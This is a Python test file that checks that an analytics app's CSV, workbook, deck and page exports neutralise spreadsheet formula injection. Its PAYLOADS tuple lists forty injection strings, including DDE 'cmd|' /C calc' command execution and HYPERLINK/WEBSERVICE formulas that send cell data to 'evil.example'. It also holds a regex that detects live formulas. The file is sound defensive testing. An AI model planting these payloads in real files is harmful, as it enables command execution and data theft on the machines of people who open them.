"""Forty texts that a spreadsheet might run, as names, niches, campaigns, files and notes, through every export and
every table that can be taken along: none is alive in openpyxl or LibreOffice, and numbers below zero stay numbers."""

from __future__ import annotations

import ast
import csv
import functools
import io
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from analysis import fit_decline, plan_budget
from analysis.briefing.whole import Wishes, brief
from analysis.budget.plans_sheet import plans_workbook
from analysis.budget.sheet import contract_list, sizes_workbook, workbook
from analysis.budget.side_by_side import side_by_side
from analysis.budget.sizes_side_by_side import sizes_side_by_side
from analysis.engagement import EngagementRequest, compare_chosen, engagement_rows
from data import load_campaigns
from data.aside import download_of, files_to_correct, to_correct
from data.exporting import csv_bytes, safe_cell
from data.template import template_archive, template_workbook
from tests.exports.office import all_converted, missing
from tests.exports.opening import MAKERS, parts

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://evil.example/?\"&A1,\"win\")",
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
    "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")", "=WEBSERVICE(\"http://evil.example\")", "=SUM(1,1)*cmd|'x'!A1",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1+1", "\u00a0=1+1", "\u2003=1+1", "\u200b=1+1", "\ufeff=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "{=1+1}", "\"=1+1", "'=1+1", "=\"a\"&\"b\"", "=1+1\";=1+1",
    "x;=1+1;y", "x\t=1+1\ty", "x,=1+1,y", "x\n=1+1", "=A1:Z99", "=-1", "--1+1", "+-@=1", "=IF(1,\"<script>\",0)",
)
#: What may begin a formula once blanks and what cannot be seen are taken off.
ALIVE = re.compile(r"^[\s\x00-\x20\u00a0\u200b-\u200f\ufeff\u2000-\u200a]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
NUMBER = re.compile(r"[+-]?\d+([.,]\d+)*([eE][+-]?\d+)?\s?%?")


def test_there_are_forty_and_each_would_be_alive_or_part_a_cell():
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 40


@functools.cache
def campaigns():
    """A list of creators and their posts as files, every text of which is one of the forty; some rows cannot be
    used."""
    names = PAYLOADS
    creators = pd.DataFrame({
        "creator_id": [f"c{i}" for i in range(80)], "platform": "Instagram",
        "name": [names[i % 40] for i in range(80)], "handle": [f"{names[(i + 7) % 40]} {i}" for i in range(80)],
        "niche": [names[(i // 8) % 40] for i in range(80)], "country": [names[(i // 16) % 40] for i in range(80)],
        "followers": [round(2_000 * 1.08**i) for i in range(80)], "bio": [names[(i + 3) % 40] for i in range(80)],
        "quoted_fee": [20 + 3 * i for i in range(80)], "currency": "EUR"})
    posts = pd.DataFrame({
        "post_id": [f"p{i}" for i in range(240)], "creator_id": [f"c{i // 3}" for i in range(240)],
        "platform": "Instagram", "campaign": [names[(i // 60) % 40] for i in range(240)],
        "followers": np.repeat(creators["followers"], 3),
        "likes": [round(60 * 1.06 ** (i // 3) * (1.3 if i % 3 else 0.7)) for i in range(240)],
        "caption": [names[i % 40] for i in range(240)]})
    bad = posts.tail(6).assign(post_id=[f"q{i}" for i in range(6)], likes=list(names[:6]), followers="many",
                               creator_id="")
    files = [(f"{names[0]} creators.csv", creators.to_csv(index=False).encode()),
             ("+posts.csv", pd.concat([posts, bad]).to_csv(index=False).encode())]
    return load_campaigns(*files, answers={"selection": "all we worked with"})


@functools.cache
def briefings() -> tuple:
    whole, problems = brief(campaigns(), Wishes(budget=5_000, handling_cost=20, date_text="=TODAY()"))
    assert not problems
    noted = tuple(replace(slide, note=PAYLOADS[i % 40]) for i, slide in enumerate(whole.slides))
    hidden, _ = brief(campaigns(), Wishes(budget=5_000, handling_cost=20, hide={"fees", "names"}))
    return replace(whole, slides=noted, title=PAYLOADS[4]), hidden


@functools.cache
def tables() -> dict[str, bytes]:
    """Every table that can be taken along as CSV, by the name of its file."""
    from pages.shared.show.decline import zipped

    data = campaigns()
    fit = fit_decline(data)
    rows = engagement_rows(data, EngagementRequest())
    everyone = compare_chosen(rows.points, np.arange(len(rows.points)), request=EngagementRequest())
    plan, less = planned(), planned(3_000.0)
    report = data.report
    found = {"creators": csv_bytes(everyone.table), "points": csv_bytes(rows.points),
             "plan": csv_bytes(contract_list(plan)), "set-aside": csv_bytes(report.set_aside),
             "side-by-side": csv_bytes(side_by_side(PAYLOADS[0], {PAYLOADS[0]: plan, PAYLOADS[5]: less}).table),
             "sizes": csv_bytes(sizes().table), "forty": csv_bytes(forty())}
    headers = {file: ["post_id", "creator_id", "platform", "campaign", "followers", "likes", "=caption"]
               for file in report.files}
    packed = {"correct": download_of(files_to_correct(to_correct(report), headers)), "decline": zipped(data, fit),
              "template": template_archive()}
    for name, file in packed.items():
        for part, content in parts(file).items():
            if part.endswith(".csv") or not part:
                found[f"{name}{re.sub('[^a-z]+', '-', part)}"] = content
    return found


def forty() -> pd.DataFrame:
    """The forty as cells and as heads, beside numbers below zero, which are numbers and texts."""
    frame = pd.DataFrame({f"{payload} {i}": list(PAYLOADS) for i, payload in enumerate(PAYLOADS)})
    return frame.assign(below=-np.arange(1, 41) / 4, said=[f"-{i}.25" for i in range(1, 41)])


@functools.cache
def planned(budget: float = 5_000.0):
    from analysis import BudgetScenario

    data = campaigns()
    return plan_budget(data, fit_decline(data), BudgetScenario(budget=budget, handling_cost=20, locked_in=("c3",)),
                       draws=200)


@functools.cache
def sizes():
    from analysis import BudgetScenario, compare_sizes

    compared = compare_sizes(fit_decline(campaigns()), {3_000: 30, 300_000: 300}, BudgetScenario(budget=5_000),
                             small=3_000, large=300_000, draws=256)
    return sizes_side_by_side(PAYLOADS[0], dict.fromkeys(PAYLOADS, compared))


@functools.cache
def books() -> dict[str, bytes]:
    """Every workbook that leaves the app, those behind the charts of a deck among them."""
    found = {"plan": workbook(planned(), name=PAYLOADS[4], link="=1+1"), "sizes": sizes_workbook(sizes(), link="@x"),
             "plans": plans_workbook(side_by_side(PAYLOADS[0], {PAYLOADS[0]: planned(), PAYLOADS[5]: planned(3_000.0)}),
                                     link="+1"), "template": template_workbook()}
    for place, briefing in enumerate(briefings()):
        found[f"briefing{place}"] = MAKERS["xlsx"](briefing)
        with zipfile.ZipFile(io.BytesIO(MAKERS["pptx"](briefing))) as deck:
            found |= {f"chart{place}-{i}": deck.read(name) for i, name in enumerate(
                name for name in deck.namelist() if name.endswith(".xlsx"))}
    return found


def test_the_payloads_reach_what_is_taken_along():
    """Else the tests below would prove nothing."""
    for name in ("creators", "points", "plan", "set-aside", "side-by-side", "sizes"):
        assert sum(payload.strip().encode() in tables()[name] for payload in PAYLOADS) > 1, name
    text = "".join(part.decode() for part in parts(books()["briefing0"]).values() if b"<sst" in part)
    assert "HYPERLINK" in text and "cmd|" in text


@pytest.mark.parametrize("parted", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
def test_no_cell_of_a_table_is_alive_however_a_program_parts_it(parted):
    for name, content in tables().items():
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=parted):
            alive = [cell for cell in row if ALIVE.match(cell) and not NUMBER.fullmatch(cell.strip())]
            assert alive == [], name


def test_no_workbook_has_a_formula_or_link_but_those_written_by_us():
    ours = re.compile(r"=(SUM\([A-Z]\d+:[A-Z]\d+\)|[A-Z]\d+( [*/+-] [A-Z]\d+){1,2})")
    for name, file in books().items():
        book = load_workbook(io.BytesIO(file))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
        live = [cell.value for cell in cells if cell.data_type == "f"]
        assert all(isinstance(formula, str) and ours.fullmatch(formula) for formula in live), (name, live)
        assert bool(live) == (name in ("plan", "briefing0", "briefing1")), name
        texts = [cell.value for cell in cells if isinstance(cell.value, str) and cell.data_type != "f"]
        assert not [text for text in texts if ALIVE.match(text) and not NUMBER.fullmatch(text.strip())], name
        links = [cell.hyperlink.target for cell in cells if cell.hyperlink]
        assert all(one and one.startswith("https://www.instagram.com/") for one in links), name
        for part, content in parts(file).items():
            assert not part.endswith(".rels") or b"evil.example" not in content, (name, part)
            assert "externalLink" not in part and not part.endswith(".bin") and b"<ddeLink" not in content


def test_libreoffice_finds_no_formula_in_any_of_them():
    reason = missing()
    if reason:
        pytest.skip(reason)
    named = {f"{name}.csv": content for name, content in tables().items()}
    for made in all_converted(named, "xlsx").items():
        book = load_workbook(io.BytesIO(made[1]))
        live = [cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
        assert live == [], made[0]
    # And back: the workbooks saved as CSV, whose first sheet is written as it is seen.
    named = {f"{name}.xlsx": content for name, content in books().items() if not name.startswith("chart")}
    for name, made in all_converted(named, "csv").items():
        rows = list(csv.reader(io.StringIO(made.decode("utf-8", "replace"), newline="")))
        assert not [cell for row in rows for cell in row
                    if ALIVE.match(cell) and not NUMBER.fullmatch(cell.strip())], name


@pytest.mark.parametrize("kind", ["pdf", "html", "pptx"])
def test_pages_and_slides_hold_them_as_text(kind):
    file = MAKERS[kind](briefings()[0])
    for name, part in parts(file).items():
        assert b"evil.example" not in part or not name.endswith(".rels"), name
        assert b"<script" not in part and b"/JavaScript" not in part and b"/URI" not in part, name


def test_numbers_below_zero_stay_numbers():
    seen = pd.read_csv(io.BytesIO(csv_bytes(forty())))
    assert (seen["below"] == forty()["below"]).all()
    assert (seen["said"] == -(np.arange(1, 41) + 0.25)).all(), "also where a text says one"
    for number in ("-5", "-1.5", "+7", "-1,5", "-3 %", "-1e5", "-1.234,5"):
        assert safe_cell(number) == number
    assert safe_cell(-1.5) == -1.5 and safe_cell(None) is None
    assert safe_cell("-") != "-" and safe_cell("- 5") != "- 5"


def test_there_is_one_place_that_makes_cells_safe():
    """Who writes tables or workbooks, and that each of them goes through data/exporting."""
    writers = {}
    for path in [p for room in ("data", "analysis", "pages") for p in (ROOT / room).rglob("*.py")]:
        source = path.read_text(encoding="utf-8")
        called = {node.func.attr for node in ast.walk(ast.parse(source))
                  if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)}
        if called & {"to_csv", "to_excel", "write_string", "writerow", "Workbook"}:
            writers[path.relative_to(ROOT).as_posix()] = source
    # The fingerprint of a dataset is made of text that is never written anywhere; the template holds words of ours.
    elsewhere = {"data/workspace/datasets.py", "data/template.py", "data/exporting.py", "data/reading/child.py"}
    for name in writers.keys() - elsewhere:
        assert "data.exporting import" in writers[name] or "briefing.computing import" in writers[name], name
        assert '"strings_to_formulas": False' in writers[name] or ".Workbook(" not in writers[name], name


#: What makes the files that are offered on a page; each is among the makers whose files are opened above, or packs what
#: is. A new one belongs into `tables` or `books` first, and then here.
OFFERED = {"csv_bytes", "workbook", "sizes_workbook", "plans_workbook", "zipped", "download_of", "template_workbook",
           "template_archive", "make_deck", "make_onepager", "make_workbook", "make_webpage", "make_pictures"}


def _made_by(build: ast.expr, named: dict[str, set[str]]) -> set[str]:
    """The functions that make what is offered: a name, a call in a lambda, or either with arguments filled in."""
    if isinstance(build, ast.Lambda) and isinstance(build.body, ast.Call) and isinstance(build.body.func, ast.Name):
        return {build.body.func.id}
    if isinstance(build, ast.Call) and ast.unparse(build.func) == "functools.partial":
        return _made_by(build.args[0], named)
    if isinstance(build, ast.Name):
        return named.get(build.id, {build.id})
    return {ast.unparse(build)}


def _looped(tree: ast.Module) -> dict[str, set[str]]:
    """What a loop's variable may be, where it runs over rows of a table at the top of the module: name -> functions."""
    rows = {target.id: node.value.elts for node in tree.body if isinstance(node, ast.Assign)
            for target in node.targets if isinstance(target, ast.Name) and isinstance(node.value, ast.Tuple)}
    found: dict[str, set[str]] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.For) and isinstance(node.target, ast.Tuple) and ast.unparse(node.iter) in rows:
            for place, one in enumerate(node.target.elts):
                found[ast.unparse(one)] = {ast.unparse(row.elts[place]) for row in rows[ast.unparse(node.iter)]}
    return found


def test_everything_offered_on_a_page_is_made_by_what_is_opened_above():
    made, tables_taken = set(), 0
    for path in [ROOT / "app.py", *(ROOT / "pages").rglob("*.py")]:
        tree, name = ast.parse(path.read_text(encoding="utf-8")), path.relative_to(ROOT).as_posix()
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            called = ast.unparse(node.func)
            if called.endswith(("download_button", "link_button")):
                assert name == "pages/shared/show/__init__.py", f"{name}: only pages/shared/show offers a file"
            if called == "show.download":
                makers = _made_by(node.args[1], _looped(tree))
                assert makers <= OFFERED, f"{name}:{node.lineno}: {makers - OFFERED}"
                made |= makers
            tables_taken += called == "show.table" and any(word.arg == "download" for word in node.keywords)
    assert made == OFFERED and tables_taken >= 3, "else this looks in the wrong places"
    # A table that can be taken along, and every file, go the same way: the two buttons of pages/shared/show.
    drawn = ast.parse((ROOT / "pages/shared/show/__init__.py").read_text(encoding="utf-8"))
    buttons = [node for node in ast.walk(drawn) if isinstance(node, ast.Call)
               and ast.unparse(node.func) == "st.download_button"]
    data = [next(word.value for word in node.keywords if word.arg == "data") for node in buttons]
    assert sorted("csv_bytes" in _made_by(one, {}) for one in data) == [False, True]
    assert sum("build" in ast.unparse(one) for one in data) == 1
